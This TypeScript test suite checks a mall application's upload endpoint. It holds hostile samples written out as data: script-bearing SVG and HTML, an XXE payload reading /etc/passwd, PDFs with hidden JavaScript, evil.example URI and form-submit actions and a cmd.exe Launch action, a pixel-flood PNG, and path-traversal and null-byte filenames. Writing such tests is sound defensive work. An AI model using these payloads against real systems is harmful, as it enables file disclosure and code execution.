import { existsSync, readdirSync } from 'node:fs'
import { deflateSync } from 'node:zlib'
import sharp from 'sharp'
import type { Mall } from './mall.ts'
import type { Outcome } from './outcome.ts'

const MARK = 'proof-boundary-7f3a'
const PAGE = '2 0 obj<</Type/Pages/Kids[3 0 R]/Count 1>>endobj\n3 0 obj<</Type/Page/Parent 2 0 R/MediaBox[0 0 9 9]>>endobj\n'
const PDF = `%PDF-1.4\n1 0 obj<</Type/Catalog/Pages 2 0 R>>endobj\n${PAGE}trailer<</Root 1 0 R>>\n%%EOF\n`
const SVG = '<svg xmlns="http://www.w3.org/2000/svg" onload="alert(1)"><script>alert(1)</script></svg>'
const XXE = '<?xml version="1.0"?><!DOCTYPE x [<!ENTITY e SYSTEM "file:///etc/passwd">]><x>&e;</x>'
const HTML = '<html><body><script>alert(1)</script></body></html>'
/** One object more, hung into the catalogue by `entry`. */
const pdfWith = (entry: string, more = '') =>
  `%PDF-1.4\n1 0 obj<</Type/Catalog/Pages 2 0 R${entry}>>endobj\n${PAGE}${more}trailer<</Root 1 0 R>>\n%%EOF\n`
/** The action lies in a packed stream of objects, where a search of the text sees nothing. */
function packed(action: string): Buffer {
  const body = deflateSync(`4 0 ${action}`)
  const head = `%PDF-1.5\n1 0 obj<</Type/Catalog/Pages 2 0 R/OpenAction 4 0 R>>endobj\n${PAGE}5 0 obj<</Type/ObjStm/N 1/First 4/Filter/FlateDecode/Length ${body.length}>>stream\n`
  return Buffer.concat([Buffer.from(head), body, Buffer.from('\nendstream endobj\ntrailer<</Root 1 0 R>>\n%%EOF\n')])
}
/** A PNG that claims 60,000 x 60,000 points. */
const FLOOD = Buffer.from('89504e470d0a1a0a0000000d494844520000ea600000ea600806000000', 'hex')
const ZIP = Buffer.concat([Buffer.from('504b030414000000080000000000', 'hex'), Buffer.alloc(4000)])

type Expect = 'suffix' | 'whitelist' | 'format' | 'content' | 'active' | 'large' | 'one' | 'taken'
interface Form {
  name: string
  bytes: Buffer | string
  expect: Expect
  purpose?: string
  files?: number
}
const codeOf: Record<Expect, number> = {
  suffix: 4501,
  whitelist: 4502,
  format: 4503,
  content: 4504,
  active: 4509,
  large: 4505,
  one: 9400,
  taken: 1,
}

function forms(photo: Buffer, png: Buffer, webp: Buffer, gif: Buffer): Form[] {
  const format = (name: string, bytes: Buffer | string): Form => ({ name, bytes, expect: 'format' })
  const active = (bytes: Buffer | string): Form => ({ name: 'a.pdf', bytes, expect: 'active' })
  const content = (name: string, bytes: Buffer | string): Form => ({ name, bytes, expect: 'content' })
  return [
    ...['营业执照', '营业执照.', 'a. ', '...'].map((name): Form => ({ name, bytes: photo, expect: 'suffix' })),
    ...['', 'nothing', '__proto__'].map((purpose): Form => ({ name: 'a.jpg', bytes: photo, purpose, expect: 'whitelist' })),
    format('a.svg', SVG),
    format('a.html', HTML),
    format('a.xml', XXE),
    format('a.zip', ZIP),
    format('a.docx', ZIP),
    format('a.xlsx', ZIP),
    format('a.docm', ZIP),
    format('a.exe', 'MZ'),
    format('a.jpg.exe', photo),
    format('a.pdf.js', PDF),
    format('a.jpg\u0000.php', photo),
    format('a.webp', webp),
    format('a.gif', gif),
    format('a.jpgx', photo),
    { name: 'a.pdf', bytes: PDF, purpose: 'avatar', expect: 'format' },
    content('a.jpg', SVG),
    content('a.png', HTML),
    content('a.pdf', XXE),
    content('a.jpg', PDF),
    content('a.pdf', photo),
    content('a.png', photo),
    content('a.jpg', png),
    content('a.jpg', webp),
    content('a.png', FLOOD),
    content('a.jpg', photo.subarray(0, 60)),
    content('a.jpg', ZIP),
    content('a.jpg', Buffer.alloc(0)),
    active(pdfWith('/OpenAction<</S/JavaScript/JS(app.alert(1))>>')),
    active(pdfWith('/OpenAction<</S/J#61vaScript/J#53(app.alert(1))>>')),
    active(packed('<</S/JavaScript/JS(app.alert(1))>>')),
    active(pdfWith('/OpenAction<</S/URI/URI(https://evil.example)>>')),
    active(packed('<</S/URI/URI(https://evil.example)>>')),
    active(pdfWith('/AA<</WC<</S/SubmitForm/F(https://evil.example)>>>>')),
    active(pdfWith('/Names<</EmbeddedFiles<</Names[]>>>>')),
    active(pdfWith('/OpenAction 4 0 R', '4 0 obj<</Type/Action/S/Launch/F(cmd.exe)>>endobj\n')),
    active(`${PDF}${HTML}\n%%EOF`),
    content('a.pdf', '%PDF-1.4 without an end'),
    content('a.pdf', `${HTML}${PDF}`),
    {
      name: 'a.pdf',
      bytes: Buffer.concat([Buffer.from(PDF), Buffer.alloc(12 * 1024 * 1024), Buffer.from(PDF)]),
      expect: 'large',
    },
    { name: 'a.pdf', bytes: Buffer.alloc(64 * 1024 * 1024, 32), expect: 'large' },
    { name: 'a.jpg', bytes: photo, files: 50, expect: 'one' },
    { name: '营业执照.JPG', bytes: photo, expect: 'taken' },
    { name: '../../../etc/passwd.png', bytes: png, expect: 'taken' },
    { name: '..\\..\\windows\\a.pdf', bytes: PDF, expect: 'taken' },
    { name: '\u202Egnp.exe.png', bytes: png, expect: 'taken' },
    // A picture with a page behind it: taken as the picture it is, never served as anything else.
    { name: 'polyglot.jpg', bytes: Buffer.concat([photo, Buffer.from(HTML)]), expect: 'taken' },
  ]
}

async function send(mall: Mall, token: string | null, f: Form) {
  const head = (name: string, file?: string) =>
    `--${MARK}\r\ncontent-disposition: form-data; name="${name}"${file === undefined ? '' : `; filename="${file}"\r\ncontent-type: application/octet-stream`}\r\n\r\n`
  const parts: Buffer[] = [Buffer.from(`${head('purpose')}${f.purpose ?? 'licence'}\r\n`)]
  for (let i = 0; i < (f.files ?? 1); i += 1)
    parts.push(Buffer.from(head('file', f.name)), Buffer.from(f.bytes), Buffer.from('\r\n'))
  const reply = await fetch(`${mall.base}/api/file/oneFileUpload`, {
    method: 'POST',
    headers: { 'content-type': `multipart/form-data; boundary=${MARK}`, ...(token ? { token } : {}) },
    body: Buffer.concat([...parts, Buffer.from(`--${MARK}--\r\n`)]),
  }).catch((e: Error) => e)
  // A server that has said no may hang up while the rest is still on its way.
  if (reply instanceof Error)
    return { http: 0, code: 0, message: reply.message, data: null as null | { fileId: string; fileName: string } }
  const body = (await reply.json()) as {
    status: { code: number; message: string }
    data: { fileId: string; fileName: string } | null
  }
  return { http: reply.status, ...body.status, data: body.data }
}

/** T48: forms of uploads; exact sentences, content against suffix, own keys, only the own company fetches, memory bounded. */
export async function uploads(mall: Mall): Promise<Outcome> {
  const wrong: string[] = []
  const plain = { create: { width: 640, height: 480, channels: 3, background: '#3d4b5c' } } as const
  const [photo, png, webp, gif] = await Promise.all([
    sharp(plain).jpeg().toBuffer(),
    sharp(plain).png().toBuffer(),
    sharp(plain).webp().toBuffer(),
    sharp(plain).gif().toBuffer(),
  ])
  const owner = await mall.login('demo06')
  const memory = async () => {
    const text = await (await mall.raw('/metrics', {})).text()
    return Number(/^process_resident_memory_bytes (\S+)/m.exec(text)?.[1] ?? 0) / 1024 / 1024
  }
  const count = async () => (await mall.db.query<{ n: number }>('select count(*)::int as n from file_object')).rows[0]?.n ?? 0
  const all = forms(photo, png, webp, gif)
  // The libraries for pictures and papers are loaded with the first of them: once, not with every upload.
  await send(mall, owner, { name: 'a.jpg', bytes: photo, expect: 'taken' })
  for (let i = 0; i < 3; i += 1) await send(mall, owner, { name: 'a.pdf', bytes: PDF, expect: 'taken' })
  const before = { rows: await count(), mb: await memory() }
  const taken: string[] = []
  for (const form of all) {
    const answer = await send(mall, owner, form)
    const label = `${form.name.slice(0, 30)}(${form.expect})`
    // 64 MB: hanging up is a refusal too.
    if (answer.code !== codeOf[form.expect] && !(form.expect === 'large' && answer.http === 0))
      wrong.push(`${label} 得到 ${answer.code}`)
    if (answer.http >= 500) wrong.push(`${label} HTTP ${answer.http}`)
    if (form.expect === 'suffix' && answer.message !== '文件名后缀不能为空') wrong.push(`${label} 文案`)
    if (form.expect === 'format' && answer.message !== '不支持此上传格式') wrong.push(`${label} 文案`)
    if (answer.data) {
      taken.push(answer.data.fileId)
      if (/[\\/\u0000-\u001f\u202e<>]/.test(answer.data.fileName)) wrong.push(`${label} 文件名未净化`)
    }
  }
  if ((await count()) - before.rows !== taken.length) wrong.push('被拒的文件留下了记录')
  if ((await send(mall, null, { name: 'a.jpg', bytes: photo, expect: 'taken' })).code !== 606) wrong.push('游客可上传')

  const cookieFor = async (userName: string) => {
    const login = await mall.raw('/api/user/loginUser', {
      method: 'POST',
      headers: { 'content-type': 'application/json' },
      body: JSON.stringify({ userName, password: 'Steel@2026' }),
    })
    return login.headers
      .getSetCookie()
      .map(c => c.split(';')[0])
      .join('; ')
  }
  const [mine, foreign] = [await cookieFor('demo06'), await cookieFor('demo07')]
  const { rows } = await mall.db.query<{ id: string; key: string }>(
    'select id, storage_key as key from file_object where id = any($1)',
    [taken],
  )
  for (const { id, key } of rows) {
    if (!/^[0-9/]{11}[A-Za-z0-9_-]{22}$/.test(key)) wrong.push('存储名不是服务器生成')
    const own = await mall.raw(`/api/file/get?id=${id}`, { headers: { cookie: mine } })
    const flags = [own.headers.get('x-content-type-options'), own.headers.get('content-security-policy') ?? '']
    if (own.status !== 200 || flags[0] !== 'nosniff' || !flags[1]?.includes('sandbox')) wrong.push('取回缺少保护头')
    if (!own.headers.get('content-disposition')?.startsWith('attachment')) wrong.push('原件没有作为附件')
    const other = await mall.raw(`/api/file/get?id=${id}`, { headers: { cookie: foreign } })
    const missing = await mall.raw(`/api/file/get?id=${'B'.repeat(22)}`, { headers: { cookie: foreign } })
    if (other.status !== 404 || (await other.text()) !== (await missing.text())) wrong.push('他人能取到或能察觉文件')
    if ((await mall.raw(`/api/file/get?id=${id}`, {})).status !== 404) wrong.push('游客能取到文件')
  }
  for (const path of ['/api/file/get?id=../../../etc/passwd', '/api/file/get?id=%2e%2e%2fpg', '/files/2026/', '/.data/files/'])
    if ((await mall.raw(path, { headers: { cookie: mine } })).status < 400) wrong.push(`${path} 有内容`)
  const many = await Promise.all(
    Array.from({ length: 20 }, () => send(mall, owner, { name: 'a.jpg', bytes: photo, expect: 'taken' })),
  )
  if (!many.every(a => a.code === 1)) wrong.push('并发上传失败')
  const grown = Math.round((await memory()) - before.mb)
  if (grown > 50) wrong.push(`内存增长 ${grown} MB`)
  const dir = process.env.MALL_DATA ? `${process.env.MALL_DATA}/files` : ''
  const empty = dir && existsSync(dir) ? readdirSync(dir, { recursive: true }).filter(f => String(f).endsWith('.part')).length : 0
  if (empty > 0) wrong.push('留下半个文件')
  return {
    pass: wrong.length === 0,
    figures: wrong.length
      ? wrong.slice(0, 6).join('；')
      : `${all.length} 种上传，${taken.length} 种应收，其余按原文拒绝且不留痕；只有本企业能取；内存 +${Math.max(0, grown)} MB`,
  }
}
